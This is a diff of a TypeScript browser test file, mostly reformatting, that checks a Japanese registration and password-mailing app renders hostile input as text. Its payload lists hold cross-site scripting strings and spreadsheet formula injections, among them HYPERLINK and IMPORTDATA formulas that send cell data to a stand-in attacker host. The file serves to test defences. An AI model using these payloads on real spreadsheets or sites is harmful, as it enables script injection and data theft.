@@ -13,13 +13,46 @@ const NOW = '2026-11-22T09:00:00+09:00';
 const IMAGE = '<img src=x onerror="globalThis.hurt=1">';
 const SCRIPT = '</script><script>globalThis.hurt=1</script>';
 const ATTRIBUTE = `"' autofocus onfocus=globalThis.hurt=1 x="`;
-const MARKUP = [IMAGE, SCRIPT, ATTRIBUTE, '<svg onload=globalThis.hurt=1>', '--><b>x</b><!--', '&lt;b&gt;&amp;'];
+const MARKUP = [
+  IMAGE,
+  SCRIPT,
+  ATTRIBUTE,
+  '<svg onload=globalThis.hurt=1>',
+  '--><b>x</b><!--',
+  '&lt;b&gt;&amp;',
+];
 const FORMULAS = [
   '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', ' =1+1', '　=1+1', '＝1+1', '＝cmd|calc', '＋1', '－1', '＠SUM(A1)',
   '=HYPERLINK("https://attacker.example.com/?"&A1,"x")', '=IMPORTDATA("https://attacker.example.com")', "'=1+1", '\u0000=1+1',
 ]; // prettier-ignore
-const COERCED = ['1-2', '0001', '1e5', 'TRUE', '2026/04/01', '12:30', '50%', '¥100', '令和8年4月1日', "'x", '1,000', '１２３'];
-const ODD = ['{{氏名}}', '{{仮パスワード}}', '${1}', '$&', '__proto__', 'constructor', '\u202e子花', 'a\u0000b', 'e\u0301', '𠮷\ufe00', '\u200b', '　'];
+const COERCED = [
+  '1-2',
+  '0001',
+  '1e5',
+  'TRUE',
+  '2026/04/01',
+  '12:30',
+  '50%',
+  '¥100',
+  '令和8年4月1日',
+  "'x",
+  '1,000',
+  '１２３',
+];
+const ODD = [
+  '{{氏名}}',
+  '{{仮パスワード}}',
+  '${1}',
+  '$&',
+  '__proto__',
+  'constructor',
+  '\u202e子花',
+  'a\u0000b',
+  'e\u0301',
+  '𠮷\ufe00',
+  '\u200b',
+  '　',
+];
 const texts = [...MARKUP, ...FORMULAS, ...COERCED, ...ODD];
 
 let workspace: TestWorkspace;
@@ -40,7 +73,8 @@ afterAll(async () => {
   await workspace.close();
 });
 
-const reset = (more: object = {}) => workspace.control.post('/api/reset', { scenario: 'sample', now: NOW, ...more });
+const reset = (more: object = {}) =>
+  workspace.control.post('/api/reset', { scenario: 'sample', now: NOW, ...more });
 
 /** Tabs with a cell that holds a formula. */
 async function tabsWithFormulas(): Promise<string[]> {
@@ -76,15 +110,17 @@ describe('in the tabs', () => {
     expect(await tabsWithFormulas()).toEqual([]);
   });
 
-  it.each(['登録番号', 'メールアドレス', 'メールアドレス（確認用）'])('so does the answer to %s', async (title) => {
-    const person = await day.person('noMail');
-    for (const text of [...FORMULAS, IMAGE, '__proto__']) await day.answer(person, { [title]: text });
-    const answers = (await day.rows('パスワード送付')).map((row) => row['回答'] ?? '').join('\n');
-    for (const text of [...FORMULAS, IMAGE, '__proto__'])
-      expect(answers).toContain(JSON.stringify(text));
-    expect(await tabsWithFormulas()).toEqual([]);
-    expect(await day.mails(person.mailToType)).toEqual([]);
-  });
+  it.each(['登録番号', 'メールアドレス', 'メールアドレス（確認用）'])(
+    'so does the answer to %s',
+    async (title) => {
+      const person = await day.person('noMail');
+      for (const text of [...FORMULAS, IMAGE, '__proto__']) await day.answer(person, { [title]: text });
+      const answers = (await day.rows('パスワード送付')).map((row) => row['回答'] ?? '').join('\n');
+      for (const text of [...FORMULAS, IMAGE, '__proto__']) expect(answers).toContain(JSON.stringify(text));
+      expect(await tabsWithFormulas()).toEqual([]);
+      expect(await day.mails(person.mailToType)).toEqual([]);
+    },
+  );
 });
 
 describe('in a mail', () => {
@@ -123,16 +159,23 @@ describe('in a mail', () => {
 /** Whether anything of ours or theirs ran in any frame; the frames' own error pages do not count. */
 async function hurt(page: Page): Promise<boolean> {
   for (const frame of page.frames())
-    if (await frame.evaluate(() => 'hurt' in globalThis || document.querySelector('img[src="x"], svg[onload]') !== null))
+    if (
+      await frame.evaluate(
+        () => 'hurt' in globalThis || document.querySelector('img[src="x"], svg[onload]') !== null,
+      )
+    )
       return true;
   return false;
 }
 
-const mypageOf = (page: Page): FrameLocator => page.frameLocator('#sandboxFrame').frameLocator('#userHtmlFrame');
+const mypageOf = (page: Page): FrameLocator =>
+  page.frameLocator('#sandboxFrame').frameLocator('#userHtmlFrame');
 
 async function openSheet(user: string, item: string): Promise<Page> {
   const page = await browser.newPage(desktop);
-  await page.goto(`${workspace.url}sheet?user=${encodeURIComponent(user)}&sidebar=${encodeURIComponent(item)}`);
+  await page.goto(
+    `${workspace.url}sheet?user=${encodeURIComponent(user)}&sidebar=${encodeURIComponent(item)}`,
+  );
   return page;
 }
 
@@ -149,7 +192,13 @@ describe('in Chromium', () => {
   it('My Page shows markup in the ledger as text', async () => {
     await reset();
     person = await day.person('noMail');
-    for (const [header, text] of [['氏名', IMAGE], ['住所', SCRIPT], ['建物・部屋', ATTRIBUTE], ['事業所名', '{{氏名}}\u202e<b>x</b>']] as const) // prettier-ignore
+    for (const [header, text] of [
+      ['氏名', IMAGE],
+      ['住所', SCRIPT],
+      ['建物・部屋', ATTRIBUTE],
+      ['事業所名', '{{氏名}}\u202e<b>x</b>'],
+    ] as const)
+      // prettier-ignore
       await type(workspace.control, staff, '台帳', await cellOf(workspace.control, '台帳', ['登録番号', person.number], header), text);
     await day.answer(person, { 氏名: IMAGE });
     await enter(day, person, (await day.passwordMails(person.mailToType))[0], OWN);
@@ -204,9 +253,9 @@ describe('in Chromium', () => {
     await type(workspace.control, owner, '台帳', cell, `${IMAGE}${SCRIPT}${ATTRIBUTE}`);
     const page = await openSheet(owner, '初期設定');
     const dialog = page.frameLocator('#dialogFrame').frameLocator('#userHtmlFrame');
-    await dialog.getByText(`${IMAGE}${SCRIPT}${ATTRIBUTE}`).first().waitFor();
+    await dialog.getByText(`${IMAGE}${SCRIPT}${ATTRIBUTE}`).first().waitFor({ timeout: 120_000 });
     expect(await hurt(page)).toBe(false);
-  });
+  }, 180_000);
 
   it('/mail shows markup of a name as text', async () => {
     await reset();
